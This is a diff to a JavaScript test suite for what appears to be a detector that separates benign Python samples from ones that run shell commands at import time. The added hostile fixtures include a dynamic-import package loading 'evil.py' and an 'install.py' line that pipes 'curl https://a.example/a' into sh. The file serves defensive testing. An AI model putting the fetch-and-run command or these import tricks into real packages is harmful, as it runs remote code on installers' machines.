@@ -41,10 +41,18 @@ describe('the checks tell apart', () => {
           'import os\nif not __name__ != "__main__": os.system("a")\n',
           'import os\nif __name__ != "__main__":\n    x = 1\nelse:\n    os.system("a")\n',
           'import os\nx = 1\nif x > 1:\n    y = 2\nelif __name__ == "__main__":\n    os.system("a")\n',
+          'import os\ndef run(): os.system("a")\n__name__ == "__main__" and run()\n',
+          'import os\nif __name__ in ("__main__", "__mp_main__"): os.system("a")\n',
           'import os\nIS_SCRIPT = __name__ == "__main__"\nif IS_SCRIPT:\n    os.system("a")\n',
         ],
         hostile: [
           'import os\nif __name__ == "__main__" or True: os.system("a")\n',
+          'import os\ndef run(): os.system("a")\n__name__ == "__main__" or run()\n',
+          'import os\nif __name__ in ("__main__", "a"): os.system("a")\n',
+          {
+            '__init__.py': 'x = 1\n',
+            'install.py': 'import os\n__name__ == "__main__" and os.system("curl https://a.example/a | sh")\n',
+          },
           'import os\nfor __name__ in ["__main__"]: pass\nif __name__ == "__main__": os.system("a")\n',
           'import os\nif (__name__ := "__main__") == "__main__": pass\nif __name__ == "__main__": os.system("a")\n',
           'import os\nif __name__ != "__main__": os.system("a")\n',
@@ -120,6 +128,11 @@ describe('the checks tell apart', () => {
           },
           {
             '__init__.py': `${HERE}import sys\nsys.path.insert(0, HERE)\nnames = ["good"]\nnames += [file[:-3] for file in os.listdir(HERE)]\nfor name in names: importlib.import_module(name)\n`,
+            'good.py': 'x = 1\n',
+            'evil.py': SCRIPT,
+          },
+          {
+            '__init__.py': `${HERE}def load(name="good"): importlib.import_module(f".{name}", __package__)\nload()\nfor file in os.listdir(HERE): load(file[:-3])\n`,
             'good.py': 'x = 1\n',
             'evil.py': SCRIPT,
           },
